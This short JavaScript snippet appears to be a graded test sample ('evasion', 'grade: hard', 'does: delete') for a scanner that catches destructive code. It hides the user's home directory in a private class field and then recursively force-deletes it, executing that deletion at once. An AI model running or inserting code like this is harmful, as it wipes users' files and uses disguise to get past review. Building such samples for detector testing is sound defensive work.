// evasion: the home directory in a private class field (#dir = os.homedir()) removed by a method
// grade: hard; does: delete
const fs = require('fs'); const os = require('os');
class Job { #dir = os.homedir(); cleanup() { fs.rmSync(this.#dir, { recursive: true, force: true }); } }
new Job().cleanup();
